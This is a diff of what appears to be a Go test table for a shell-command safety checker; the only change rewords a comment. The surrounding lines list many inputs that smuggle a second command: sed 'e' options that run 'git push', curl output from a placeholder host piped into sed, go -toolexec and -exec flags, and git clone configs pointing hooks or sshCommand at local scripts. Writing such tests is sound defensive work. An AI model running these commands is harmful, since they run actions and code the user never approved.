@@ -157,7 +157,7 @@ var fresh = []struct {
 		// options from texts that a line writes, downloads or prints
 		"date '+-e1ex;y' | xargs sed -n 1p", "sed -n 1p $(seq -f '-e1ex|y%g' 1)", "stat -c '-e1ex&y' . | xargs sed -n 1p", "touch -- '-e1eg\"\"it push'; sed -n 1p *", "> '-e1eg\"\"it push'; sed -n 1p *", "cp a ./-e1e; sed -n p *", "mkdir -- -ne1e; ls | xargs -n1 sed 1p",
 		"echo \"-e '1e git push' x\" > u.txt; xargs sed -n 1p < u.txt", "seq -f '-e1egit${IFS}push;#%g' 1 | xargs sed -n 1p x", "seq -f '-e1e{git,push};#%g' 1 | xargs sed -n 1p x", "curl -s http://h/x | xargs sed -n 1p",
-		// options that are more than they look
+		// options that do more than they seem to
 		"go test --ldflags -ldflags '-exec=git push' .", "go test --ldflags --ldflags '--exec=git push' .",
 		"go build -ldflags -ldflags '-toolexec=git push' .", "go test -ldflags -ldflags '-exec=git push #' ./...", "go env -w GOFLAGS=-toolexec=./run.sh", "go env -w CC=./run.sh", "bun -p process.version", "bun --print=process.version",
 		"coverage run -m timeit pytest", "git clone -c core.hooksPath=. https://h/x", "git clone --config=core.hooksPath=. https://h/x", "git clone -qccore.fsmonitor=./x https://h/x", "git clone --conf core.sshCommand=./x h:x",
